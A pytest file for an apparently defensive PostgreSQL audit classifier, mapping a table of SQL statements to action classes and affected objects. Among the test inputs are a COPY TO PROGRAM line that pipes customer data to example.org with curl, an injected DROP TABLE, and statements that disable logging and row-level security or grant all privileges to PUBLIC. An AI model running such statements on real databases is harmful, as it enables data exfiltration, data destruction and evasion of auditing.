"""The class of a statement: the table of what is known, and what must stay in doubt."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit.sources.postgresql.classes import classify, classify_fastpath
from audit.sources.postgresql.tokens import words
from audit.sources.records import CLASSES

# statement, class, whether it may be more, object
TABLE = [
    ("SELECT * FROM customer", "data_read", False, "customer"),
    ("select id from shop.customer c, shop.invoice i where c.id = i.id", "data_read", False, "shop.customer"),
    ('SELECT * FROM "Customer"', "data_read", False, "Customer"),
    ("SELECT count(*) FROM customer", "data_read", False, "customer"),
    ("SELECT drop_everything() FROM customer", "data_read", True, "customer"),
    ("SELECT shop.count(id) FROM customer", "data_read", True, "customer"),
    ("SELECT drop_everything()", "other", True, ""),
    ("SELECT 1", "catalogue_read", False, ""),
    ("SELECT version(), now(), pg_catalog.pg_get_viewdef(1)", "catalogue_read", False, ""),
    ("SELECT * FROM pg_stat_activity", "catalogue_read", False, "pg_stat_activity"),
    ("SELECT * FROM pg_catalog.pg_class JOIN information_schema.tables t ON true", "catalogue_read", False, "pg_catalog.pg_class"),
    ("SELECT * FROM pg_class, customer", "data_read", False, "pg_class"),
    ("SELECT * FROM pg_class WHERE relname IN (SELECT name FROM customer)", "data_read", False, "pg_class"),
    ("SELECT * FROM pg_largeobject", "data_read", False, "pg_largeobject"),
    ("SELECT * FROM pg_stat_statements", "data_read", False, "pg_stat_statements"),
    ("SELECT * FROM shop.pg_class", "data_read", False, "shop.pg_class"),
    ("SELECT extract(day FROM now())", "catalogue_read", False, ""),
    ("SELECT * INTO copy_of_it FROM customer", "schema_change", False, "copy_of_it"),
    ("SELECT lo_unlink(7)", "data_change", True, ""),
    ("SELECT pg_terminate_backend(7)", "other", True, ""),
    ("SELECT pg_reload_conf()", "config_change", True, ""),
    ("SELECT set_config('search_path', '', false)", "catalogue_read", False, ""),
    ("SELECT set_config('log_statement', 'none', false)", "config_change", False, ""),
    ("SELECT set_config(name, 'none', false) FROM settings", "config_change", False, "settings"),
    ("TABLE customer", "data_read", False, "customer"),
    ("VALUES (1), (2)", "catalogue_read", False, ""),
    ("(SELECT 1) UNION (SELECT id FROM customer)", "data_read", False, "customer"),
    ("WITH old AS (DELETE FROM invoice RETURNING *) SELECT * FROM old", "data_change", False, "invoice"),
    ("WITH a AS (SELECT 1) UPDATE customer SET name = 'x'", "data_change", False, "customer"),
    ("WITH a AS (SELECT 1) SELECT * FROM a", "catalogue_read", False, ""),
    ("SELECT 'DELETE FROM invoice' FROM customer -- UPDATE", "data_read", False, "customer"),
    ("SELECT id FROM customer FOR UPDATE", "data_read", False, "customer"),
    ("INSERT INTO invoice (id, name) VALUES (1, lower('X'))", "data_change", False, "invoice"),
    ("INSERT INTO invoice SELECT spoil(id) FROM customer", "data_change", True, "invoice"),
    ("UPDATE ONLY shop.invoice SET paid = true", "data_change", False, "shop.invoice"),
    ("DELETE FROM invoice USING customer", "data_change", False, "invoice"),
    ("MERGE INTO invoice USING customer ON true WHEN MATCHED THEN DELETE", "data_change", False, "invoice"),
    ("TRUNCATE TABLE invoice, customer", "data_change", False, "invoice"),
    ("COPY customer TO STDOUT", "data_read", False, "customer"),
    ("COPY customer (id, name) FROM STDIN", "data_change", False, "customer"),
    ("COPY (SELECT * FROM customer) TO STDOUT", "data_read", False, "customer"),
    ("COPY (DELETE FROM customer RETURNING *) TO STDOUT", "data_change", False, "customer"),
    ("COPY customer TO PROGRAM 'curl -d @- example.org'", "data_read", True, "customer"),
    ("CREATE TABLE made (i int, v numeric(10,2))", "schema_change", False, "made"),
    ("CREATE TABLE made AS SELECT spoil(1)", "schema_change", True, "made"),
    ("CREATE INDEX CONCURRENTLY by_name ON customer (lower(name))", "schema_change", False, "customer"),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; SELECT 2; END", "schema_change", False, "f"),
    ("CREATE EXTENSION hstore", "schema_change", True, "hstore"),
    ("ALTER TABLE invoice ADD COLUMN x int", "schema_change", False, "invoice"),
    ("ALTER TABLE invoice OWNER TO ada", "permission_change", False, "invoice"),
    ("ALTER TABLE invoice DISABLE ROW LEVEL SECURITY", "permission_change", False, "invoice"),
    ("DROP TABLE IF EXISTS invoices_2019", "schema_change", False, "invoices_2019"),
    ("VACUUM (FULL) customer", "schema_change", False, "customer"),
    ("REINDEX TABLE customer", "schema_change", False, "customer"),
    ("COMMENT ON TABLE customer IS 'x'", "schema_change", False, "customer"),
    ("GRANT SELECT ON customer TO PUBLIC", "permission_change", False, "customer"),
    ("GRANT shop_admin TO ada", "permission_change", False, "shop_admin"),
    ("REVOKE ALL ON ALL TABLES IN SCHEMA shop FROM ada", "permission_change", False, "shop"),
    ("CREATE ROLE friend LOGIN PASSWORD 'x'", "permission_change", False, "friend"),
    ("ALTER USER friend SET role = 'shop_admin'", "permission_change", False, "friend"),
    ("ALTER ROLE friend SET statement_timeout = 0", "config_change", False, "friend"),
    ("DROP ROLE friend", "permission_change", False, "friend"),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", "permission_change", False, ""),
    ("CREATE POLICY p ON customer USING (true)", "permission_change", False, "customer"),
    ("ALTER SYSTEM SET log_connections = off", "config_change", False, "log_connections"),
    ("ALTER DATABASE shop SET work_mem = '1GB'", "config_change", False, "shop"),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "config_change", False, "s"),
    ("SET statement_timeout = 0", "session", False, "statement_timeout"),
    ("SET LOCAL log_statement TO 'none'", "config_change", False, "log_statement"),
    ("SET ROLE NONE", "session", False, "role"),
    ("RESET ALL", "session", False, "all"),
    ("BEGIN", "session", False, ""),
    ("COMMIT", "session", False, ""),
    ("COMMIT PREPARED 'x'", "data_change", True, ""),
    ("PREPARE TRANSACTION 'x'", "other", True, ""),
    ("PREPARE q AS DELETE FROM customer", "session", False, ""),
    ("EXECUTE q(1)", "other", True, ""),
    ("DECLARE c CURSOR FOR SELECT * FROM customer", "data_read", False, "customer"),
    ("FETCH ALL FROM c", "data_read", True, ""),
    ("EXPLAIN DELETE FROM customer", "catalogue_read", False, "customer"),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM customer", "data_change", False, "customer"),
    ("EXPLAIN (ANALYZE off) DELETE FROM customer", "catalogue_read", False, "customer"),
    ("EXPLAIN ANALYZE SELECT * FROM customer", "data_read", False, "customer"),
    ("SHOW ALL", "catalogue_read", False, "all"),
    ("DO $$ BEGIN DELETE FROM customer; END $$", "other", True, ""),
    ("CALL clean_up()", "other", True, "clean_up"),
    ("SELECT 1; DELETE FROM customer", "data_change", True, "customer"),
    ("SELECT ';' FROM customer; ", "data_read", False, "customer"),
    ("", "session", False, ""),
    ("/* nothing */", "session", False, ""),
    ("SELEC 1", "other", True, ""),
    ("SELECT 'not closed", "other", True, ""),
    ("SELECT 'a\\' ; DROP TABLE customer; --'", "other", True, ""),
    ("SELECT $tag$ not closed $$", "other", True, ""),
]  # fmt: skip


@pytest.mark.parametrize(("statement", "class_", "at_least", "object_"), TABLE, ids=[row[0][:60] for row in TABLE])
def test_class_of_a_statement(statement: str, class_: str, at_least: bool, object_: str) -> None:
    found = classify(statement)
    assert (found.class_, found.at_least, found.object) == (class_, at_least, object_)


def test_execute_has_the_class_of_what_was_prepared() -> None:
    found = classify("EXECUTE q(1)", prepared="PREPARE q (int) AS DELETE FROM customer WHERE id = $1")
    assert (found.class_, found.at_least, found.object) == ("data_change", False, "customer")


@pytest.mark.parametrize(
    ("line", "class_"), [('"lo_create" (OID 715)', "data_change"), ('"f" (OID 16400)', "other"), ("", "other")]
)
def test_function_call_without_sql_is_never_certain(line: str, class_: str) -> None:
    found = classify_fastpath(line)
    assert (found.class_, found.at_least) == (class_, True)


@given(st.text())
def test_any_text_has_a_class(text: str) -> None:
    assert classify(text).class_ in CLASSES


PIECES = words("SELECT WITH ( ) , ; . FROM AS x 'a' INSERT INTO SET CREATE EXPLAIN COPY TO ON = EXECUTE FOR")


@given(st.lists(st.sampled_from(sorted(PIECES))))
def test_any_order_of_words_has_a_class(pieces: list[str]) -> None:
    assert classify(" ".join(pieces)).class_ in CLASSES
